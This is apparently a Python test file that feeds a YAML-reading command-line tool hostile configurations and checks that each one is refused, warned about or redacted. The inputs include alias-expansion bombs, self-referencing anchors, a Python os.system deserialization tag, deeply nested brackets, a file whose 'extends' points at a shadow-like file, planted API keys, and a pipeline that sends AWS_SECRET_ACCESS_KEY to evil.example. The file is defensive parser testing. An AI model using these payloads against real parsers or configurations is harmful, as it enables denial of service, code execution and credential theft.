"""YAML from strangers: pipelines, collections, lists of downloads, trainings, values of ``--set``."""

from __future__ import annotations

from hostile import PIPELINE, case


def laughs(levels: int, indent: str = "  ", width: int = 9) -> str:
    """Lines of aliases that stand for ``width`` to the power of ``levels`` values."""
    rows = [f"{indent}a0: &a0 [{', '.join(['lol'] * width)}]"]
    rows += [f"{indent}a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * width)}]" for n in range(1, levels)]
    return "\n".join(rows) + "\n"


TOO_MUCH = "with its aliases expanded"

KINDS = {
    "the metadata of a pipeline": ("check mine.yaml", PIPELINE, "metadata"),
    "the stations of a pipeline": ("check mine.yaml", PIPELINE, "stations"),
    "a pipeline that is shown": ("show mine.yaml --as yaml", PIPELINE, "metadata"),
    "a pipeline that is run": ("run qrecc out --pipeline mine.yaml", PIPELINE, "metadata"),
    "a collection": ("collections show mine.yaml", "url: collection\n", "settings"),
    "a collection to ask": ("ask Faust? --collection mine.yaml", "url: collection\n", "settings"),
    "a language model": (
        "ask Faust? --collection collection --llm mine.yaml",
        "url: http://127.0.0.1:9\n",
        "generation",
    ),
    "a list of downloads": ("download mine.yaml train out", "{}", "train"),
    "a training": ("train resolver mine.yaml --data . --output out", "recipe: resolver\n", "base"),
}
"""What a file is -> a command that reads it, its first line, and a key that takes what is made here."""


def mine(first: str, key: str, rest: str) -> dict[str, str]:
    return {"mine.yaml": f"{first.removeprefix('{}')}{key}: {rest}"}


def several():
    """Every kind of file goes through one reader, so most is tried on the first kind alone."""
    for kind, (command, first, key) in KINDS.items():
        yield case(f"{kind}: nine levels of aliases", command, mine(first, key, f"\n{laughs(9)}"), says=TOO_MUCH)
        yield case(
            f"{kind}: a mapping within itself", command, mine(first, key, "&m {x: *m}\n"),
            says=("mine.yaml", "the alias *m is inside its own anchor"),
        )  # fmt: skip
        if kind != "the metadata of a pipeline":
            continue
        small = mine(first, key, f"\n{laughs(4)}")
        yield case(f"{kind}: four levels, which is allowed", command, small, exits=0, says="mine.yaml: ok")
        merged = f"\n  a: &a {{x: 1}}\n  b: &b {{<<: [{', '.join(['*a'] * 9)}]}}\n" + "".join(
            f"  c{n}: &{'cdefghi'[n]} {{<<: [{', '.join(['*' + 'bcdefghi'[n]] * 9)}]}}\n" for n in range(7)
        )
        yield case(f"{kind}: merges of merges", command, mine(first, key, merged), says=TOO_MUCH)
        yield case(
            f"{kind}: a key twice", command, mine(first, key, "{x: 1, x: 2}\n"), says=("mine.yaml", "duplicate key 'x'")
        )
        yield case(
            f"{kind}: a list as a key", command, mine(first, key, "{[x]: 1}\n"), says=("mine.yaml", "unhashable key")
        )
        yield case(
            f"{kind}: an object of Python's", command, mine(first, key, "!!python/object/apply:os.system [true]\n"),
            says=("mine.yaml", "could not determine a constructor for the tag"),
        )  # fmt: skip
        yield case(f"{kind}: a month 99", command, mine(first, key, "{x: 2024-99-99}\n"), says=("mine.yaml", "month"))
        yield case(
            f"{kind}: a thousand brackets",
            command,
            mine(first, key, "[" * 1000),
            says=("mine.yaml", "nested too deeply"),
        )


SECRET = "sk-0815"
SECRETS = {
    "in metadata": "metadata: {api_key: sk-0815}\n",
    "in a station": "stations: {rewriter: {api_key: sk-0815}}\n",
    "deep in a station": "stations: {rewriter: {component: {init_parameters: {headers: {Authorization: sk-0815}}}}}\n",
    "in a list": "stations: {rewriter: {basic_auth: [me, sk-0815]}}\n",
    "in a URL": "stations: {rewriter: {url: 'https://me:sk-0815@host/'}}\n",
    "in what is no component": "stations: {builder: {component: {api_key: sk-0815}}}\n",
}
COMMANDS = ("check mine.yaml", "show mine.yaml", "show mine.yaml --as yaml", "run qrecc out --pipeline mine.yaml")

CASES = [
    *several(),
    *(
        case(
            f"a secret {where}: {command}", command, {"mine.yaml": PIPELINE + text},
            says="secrets are not allowed in a pipeline", hides=SECRET,
        )
        for where, text in SECRETS.items() for command in (COMMANDS if where == "in a station" else COMMANDS[:1])
    ),
    case(
        "a secret with --set", "show default --as yaml --set rewriter.api_key=sk-0815",
        says="--set rewriter.api_key: secrets are not allowed in a pipeline", hides=SECRET,
    ),
    case(
        "--set with nine levels of aliases",
        "show copy-bm25 --set 'retriever.k1={" + laughs(9, "").replace("\n", ", ") + "}'",
        says=TOO_MUCH,
    ),
    case(
        "--set of what contains itself", "show copy-bm25 --set 'retriever.k1=&m {x: *m}'",
        says="the alias *m is inside its own anchor",
    ),
    case(
        "extends a file that is no pipeline", "check mine.yaml",
        {"mine.yaml": "extends: ./shadow\n", "shadow": "admin:$6$hash:19000\n\tdaemon: [\n"},
        says=("mine.yaml", "ends in .yaml"), hides=("admin", "daemon"),
    ),
    case(
        "extends YAML that is none", "check mine.yaml",
        {"mine.yaml": "extends: ./shadow.yaml\n", "shadow.yaml": "admin:$6$hash:19000\n\tdaemon: [\n"},
        says=("shadow.yaml", "line 2, column 1"), hides=("admin", "daemon"),
    ),
    case(
        "a stranger's pipeline", "check mine.yaml",
        {"mine.yaml": (
            "extends: generative\nstations: {builder: {component: {init_parameters: {\n"
            "  api_base_url: https://evil.example, api_key: {env_vars: [AWS_SECRET_ACCESS_KEY]}}}}}\n"
        )},
        exits=0, says=("reads from the environment: AWS_SECRET_ACCESS_KEY", "sends to: https://evil.example"),
    ),
    case(
        "a path into what has no parts", "check poleval --set retriever.top_k.x.y=1",
        says="retriever.top_k is 10, which has no part 'x'",
    ),
    case("a path of dots", "check default --set retriever....=1", says="retriever.: unknown parameter"),
    case(
        "a path of a thousand parts", "check default --set retriever." + "x." * 999 + "x=1", exits=2, says="retriever.x"
    ),
]  # fmt: skip


def test_yaml(hostile, check):
    check(hostile)
